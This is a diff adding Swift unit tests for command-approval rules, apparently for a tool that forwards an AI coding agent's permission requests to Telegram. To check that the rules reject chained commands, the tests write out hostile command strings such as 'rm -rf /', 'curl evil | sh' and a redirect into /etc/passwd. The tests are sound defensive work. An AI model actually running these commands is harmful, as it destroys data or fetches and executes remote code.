@@ -235,3 +235,66 @@ import TestSupport
         #expect(settings.forwardCollectWindow == .milliseconds(500))
     }
 }
+
+@Suite struct ApprovalRuleTests {
+    @Test func bashRulesCoverACommandPrefixAndNothingChainedOnIt() {
+        #expect(BashPrefix.of("swift test --filter X") == "swift test")
+        #expect(BashPrefix.of("ls") == "ls")
+        #expect(BashPrefix.of("git status; rm -rf /") == nil)
+        #expect(BashPrefix.of("echo $(whoami)") == nil)
+        let rule = PermissionRule(id: 1, project: "/w/app", tool: "Bash", pattern: "swift test")
+        #expect(rule.covers(tool: "Bash", command: "swift test", project: "/w/app"))
+        #expect(rule.covers(tool: "Bash", command: "  swift   test --parallel", project: "/w/app"))
+        #expect(!rule.covers(tool: "Bash", command: "swift testing", project: "/w/app"))
+        #expect(!rule.covers(tool: "Bash", command: "swift test && curl evil | sh", project: "/w/app"))
+        #expect(!rule.covers(tool: "Bash", command: "swift test > /etc/passwd", project: "/w/app"))
+        #expect(!rule.covers(tool: "Bash", command: "swift test", project: "/w/other"))
+        let write = PermissionRule(id: 2, project: "/w/app", tool: "Write", pattern: "")
+        #expect(write.covers(tool: "Write", command: nil, project: "/w/app"))
+        #expect(!write.covers(tool: "Edit", command: nil, project: "/w/app"))
+    }
+
+    @Test func questionPickerAnswersInTheCLIsShape() {
+        let input: JSONValue = ["questions": [
+            ["question": "Color?", "multiSelect": false, "options": [["label": "Red"], ["label": "Blue"]]],
+            ["question": "Sizes?", "multiSelect": true, "options": [["label": "S"], ["label": "M"], ["label": "L"]]],
+        ]]
+        var picker = QuestionPicker(input: input)
+        picker.pick(question: 0, option: 1)
+        picker.pick(question: 1, option: 2)
+        picker.pick(question: 1, option: 0)
+        picker.pick(question: 1, option: 2)  // toggled off
+        picker.pick(question: 1, option: 1)
+        #expect(!picker.isComplete)
+        picker.pick(question: 1, option: nil)
+        #expect(picker.isComplete)
+        #expect(picker.answers == ["Color?": "Blue", "Sizes?": "S, M"])
+        #expect(picker.answeredInput(input)["answers"] == ["Color?": "Blue", "Sizes?": "S, M"])
+        #expect(picker.answeredInput(input)["questions"] == input["questions"])
+        var empty = QuestionPicker(input: input)
+        empty.pick(question: 1, option: nil)  // Done with nothing picked is not an answer
+        empty.pick(question: 9, option: 0)
+        #expect(!empty.isComplete)
+    }
+
+    @Test func requestsReadWellAndStayValid() throws {
+        func request(_ tool: String, _ input: JSONValue) -> PermissionRequest {
+            PermissionRequest(
+                id: "r", toolName: tool, input: input, toolUseID: nil, suggestions: nil, requiresUserInteraction: false,
+                decisionReasonType: nil, description: nil, plan: nil)
+        }
+        let texts = [
+            ApprovalText.question(request("Bash", ["command": .string("rm -rf <build> && echo '&' " + String(repeating: "x", count: 5000))]), project: "/p"),
+            ApprovalText.question(request("Edit", ["file_path": "/p/a.swift", "old_string": "let a = 1", "new_string": "let a = 2 // <b>"]), project: "/p"),
+            ApprovalText.question(request("mcp__github__create_issue", ["title": "Bug", "labels": ["a", "b"], "body": .string(String(repeating: "é", count: 900))]), project: "/p"),
+        ]
+        for text in texts {
+            try TelegramLimits.checkText(text, parseMode: .html, limit: TelegramLimits.messageText, what: "approval")
+            #expect(TelegramChunk.problems(text).isEmpty, "\(TelegramChunk.problems(text))")
+        }
+        #expect(texts[1].contains("- let a = 1\n+ let a = 2 // &lt;b&gt;"))
+        #expect(texts[2].contains("\"labels\": [\n    \"a\",\n    \"b\"\n  ]"))
+        #expect(ApprovalText.ruleFor(request("Bash", ["command": "make && make install"])) == nil)
+        #expect(ApprovalText.ruleFor(request("Bash", ["command": "npm run build"]))?.pattern == "npm run")
+    }
+}
